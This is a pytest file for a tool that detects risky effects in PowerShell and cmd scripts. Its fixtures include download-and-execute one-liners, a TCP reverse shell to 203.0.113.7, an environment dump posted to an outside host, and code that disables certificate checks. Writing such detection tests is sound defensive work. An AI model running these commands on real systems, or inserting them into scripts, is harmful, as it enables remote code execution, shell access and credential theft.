"""What PowerShell and cmd do in their own words: they are only split into words, and still said to do it."""

from __future__ import annotations

import pytest

from tests.pipeline.effects.said import details, effects

URL = "https://get.example.com/x"


@pytest.mark.parametrize(
    "script",
    [
        f"$s = Invoke-RestMethod -Uri {URL}\nInvoke-Expression $s",
        f"$r = iwr {URL}\niex $r.Content",
        f"$s = (New-Object Net.WebClient).DownloadString('{URL}')\niex $s",
        f"INVOKE-EXPRESSION (invoke-webrequest {URL})",
        f"(New-Object Net.WebClient).DownloadString('{URL}') | iex",
        f"& ([scriptblock]::Create((irm {URL})))",
        f"(New-Object Net.WebClient).DownloadFile('{URL}', 'i.ps1')\n.\\i.ps1",
        f"iwr {URL} -outfile $env:TEMP\\setup.exe\nStart-Process -FilePath $env:TEMP\\setup.exe -Wait",
        f"$i = Join-Path $env:TEMP 'a.msi'\nInvoke-WebRequest {URL} -OutFile $i\nmsiexec /i $i /qn",
        f"Invoke-WebRequest {URL} -OutFile t.zip\nExpand-Archive t.zip -DestinationPath t\n.\\t\\tool.exe",
        f"Start-BitsTransfer -Source {URL} -Destination q.exe\n.\\q.exe",
    ],
)
def test_a_download_that_powershell_runs_is_seen(script: str) -> None:
    assert details("download-run", script, "pwsh") != []


def test_a_download_that_is_run_is_said_once() -> None:
    script = f"$s = Invoke-RestMethod -Uri {URL}\nInvoke-Expression $s"

    assert details("download-run", script, "pwsh") == ["$s"]
    assert details("evaluates", script, "pwsh") == []


@pytest.mark.parametrize(
    "script",
    [
        f"$r = Invoke-RestMethod {URL}\nWrite-Host $r.state",
        f"$r = Invoke-RestMethod {URL}\nif ($r.version -gt 3) {{ ./upgrade.ps1 -To $r.version }}",
        f"iwr {URL} -OutFile y.ps1\nif ((Get-FileHash y.ps1).Hash -ne $sum) {{ throw 'no' }}\n.\\y.ps1",
        f"Invoke-WebRequest {URL} -OutFile data.json\nGet-Content data.json",
        "python parse.py data.json",
    ],
)
def test_a_download_that_powershell_only_reads_is_left_alone(script: str) -> None:
    assert details("download-run", script, "pwsh") == []


@pytest.mark.parametrize(
    "script",
    [
        f"powershell -NoProfile -Command \"iex ((New-Object Net.WebClient).DownloadString('{URL}'))\"",
        f'powershell -Command "Invoke-WebRequest {URL} -OutFile x.exe"\nx.exe /S',
        f"certutil -urlcache -f {URL} y.exe && y.exe",
        f"bitsadmin /transfer j {URL} z.exe && z.exe",
    ],
)
def test_a_download_that_cmd_runs_is_seen(script: str) -> None:
    assert len(details("download-run", script, "cmd")) == 1


def test_a_file_that_a_program_is_given_is_not_its_program() -> None:
    assert details("download-run", f"curl -o c.xml {URL}\npython parse.py c.xml") == []
    assert details("download-run", f"curl -o c.sh {URL}\nbash -o pipefail c.sh") == [URL]


@pytest.mark.parametrize(
    ("script", "evaluates"),
    [
        ("$env:TITLE", False),
        ("$t = $env:TITLE", False),
        ("if ($env:TITLE -match 'x') { ./a.ps1 }", False),
        ("& $env:TITLE", True),
        (". $env:TITLE", True),
        ("$c = $env:TITLE\niex $c", True),
        ("$env:TITLE | iex", True),
        ("& ([scriptblock]::Create($env:TITLE))", True),
        ('INVOKE-EXPRESSION "git log $env:TITLE"', True),
    ],
)
def test_powershell_runs_a_value_where_it_is_told_to(script: str, evaluates: bool) -> None:
    assert bool(details("evaluates", script, "pwsh")) is evaluates


@pytest.mark.parametrize(
    ("script", "shown"),
    [
        ('"secret: $env:TOKEN"', True),
        ("$env:TOKEN", True),
        ('Write-Verbose "x $env:TOKEN" -Verbose', True),
        ("write-warning $env:TOKEN", True),
        ('$h = "Bearer $env:TOKEN"', False),
        ("$env:TOKEN | Out-File token.txt", False),
        ('Write-Host "length $($env:TOKEN.Length)"', False),
        ('Write-Host "begins $($env:TOKEN.Substring(0, 3))"', True),
    ],
)
def test_powershell_prints_what_stands_alone(script: str, shown: bool) -> None:
    assert bool(details("secret-print", script, "pwsh")) is shown


def test_the_environment_is_listed_in_each_shells_way() -> None:
    assert details("environment-dump", "[Environment]::GetEnvironmentVariables()", "pwsh") != []
    assert details("secret-print", "set TOK", "cmd") == ["TOKEN"]
    assert details("secret-print", "set TOK=1", "cmd") == details("secret-print", "set OTHER", "cmd") == []


@pytest.mark.parametrize(
    "script",
    [
        "invoke-webrequest -uri https://a.example -skipcertificatecheck",
        "$p = @{ Uri = 'https://a.example'; SkipCertificateCheck = $true }",
        "[Net.ServicePointManager]::ServerCertificateValidationCallback = { return $true }",
        "[Net.ServicePointManager]::ServerCertificateValidationCallback += {$true}",
    ],
)
def test_powershell_takes_any_certificate(script: str) -> None:
    assert details("tls-off", script, "pwsh") != []


def test_powershell_keeps_verifying() -> None:
    assert details("tls-off", "[Net.ServicePointManager]::SecurityProtocol = 'Tls12'", "pwsh") == []
    assert details("tls-off", "$p = @{ SkipCertificateCheck = $false }", "pwsh") == []


def test_a_shell_over_a_connection_is_seen_in_powershell() -> None:
    client = "$c = New-Object Net.Sockets.TCPClient('203.0.113.7', 4444)"

    assert details("reverse-shell", f"{client}\n$d = $c.GetStream()\niex $d", "pwsh") == ["New-Object"]
    assert details("reverse-shell", f"{client}\n$c.Connected", "pwsh") == []


@pytest.mark.parametrize(
    ("script", "shell"),
    [
        ("ConvertTo-SecureString 'Vb7kLq2ZpXs9!' -AsPlainText -Force", "pwsh"),
        ("sqlcmd -S acme -U sa -P Qx7vLm2pZ9kW4", "cmd"),
        ("az storage blob list --account-key kT9vQ2mZ8xY4pL7wB1nC5dF3gH6jK0rS2tU4", "bash"),
        ("x 'Server=tcp:acme.example;User ID=sa;Password=Qx7!vLm2pZ9k;'", "bash"),
    ],
)
def test_a_password_of_the_microsoft_world_is_written_out(script: str, shell: str) -> None:
    assert len(details("literal-credential", script, shell)) == 1


@pytest.mark.parametrize(
    ("script", "shell"),
    [
        ("ConvertTo-SecureString $env:PASSWORD -AsPlainText -Force", "pwsh"),
        ("sqlcmd -S acme -U sa -P $(password)", "cmd"),
        ("x 'Server=localhost;User ID=sa;Password=Qx7!vLm2pZ9k;'", "bash"),
        ("x 'Server=tcp:acme.example;User ID=sa;Password=$(sqlPassword1);'", "bash"),
    ],
)
def test_a_password_from_elsewhere_is_not(script: str, shell: str) -> None:
    assert details("literal-credential", script, shell) == []


def test_what_git_says_of_commits_is_an_outsiders_in_powershell_too() -> None:
    assert details("evaluates", "$t = (git log -1 --pretty=%s)\niex $t", "pwsh") != []


def test_powershell_hands_a_value_on_as_one_word() -> None:
    assert details("argument", "git tag -a v1 -m $env:TITLE", "pwsh") == []
    assert details("argument", "git log $env:TITLE", "pwsh") != []


@pytest.mark.parametrize(
    ("line", "printed"),
    [
        ('print("token", os.environ["TOKEN"])', True),
        ('print("set" if os.environ.get("TOKEN") else "missing")', False),
        ('print(len(os.environ["TOKEN"]))', False),
    ],
)
def test_code_that_only_asks_for_a_secret_does_not_print_it(line: str, printed: bool) -> None:
    assert bool(details("secret-print", f"import os\n{line}", "python")) is printed


def test_an_engine_without_encryption_is_seen_in_its_option() -> None:
    assert details("tls-off", "docker -H tcp://build.example:2375 build .") != []
    assert details("tls-off", "docker -H tcp://localhost:2375 build .") == []
    assert details("tls-off", "docker -H tcp://build.example:2376 build .") == []


@pytest.mark.parametrize(
    ("script", "installed"),
    [
        ("install-package NUnit.Console -Force", ["NUnit.Console"]),
        ("Install-Script -Name Tool", ["Tool"]),
        ("Install-PSResource Tool -Version 1.2.3", []),
        ("winget install --id Acme.Tool", ["Acme.Tool"]),
        ("winget install --id Acme.Tool --version 1.2", []),
        ("winget list", []),
    ],
)
def test_windows_installs_by_name(script: str, installed: list[str]) -> None:
    assert details("unlocked-install", script, "pwsh") == installed


def test_a_secret_that_is_masked_is_not_shown() -> None:
    assert details("secret-print", 'echo "##vso[task.setsecret]$TOKEN"') == []
    assert details("secret-print", 'echo "##vso[task.logissue type=warning]$TOKEN"') == ["TOKEN"]


def test_a_listing_that_is_kept_in_a_variable_is_printed_nowhere() -> None:
    script = "$all = Get-ChildItem env: | Out-String\nInvoke-WebRequest -Uri https://c.example -Method POST -Body $all"
    kinds = {effect.kind for effect in effects(script, "pwsh")}
    assert "environment-dump" not in kinds
    assert "secret-send" in kinds
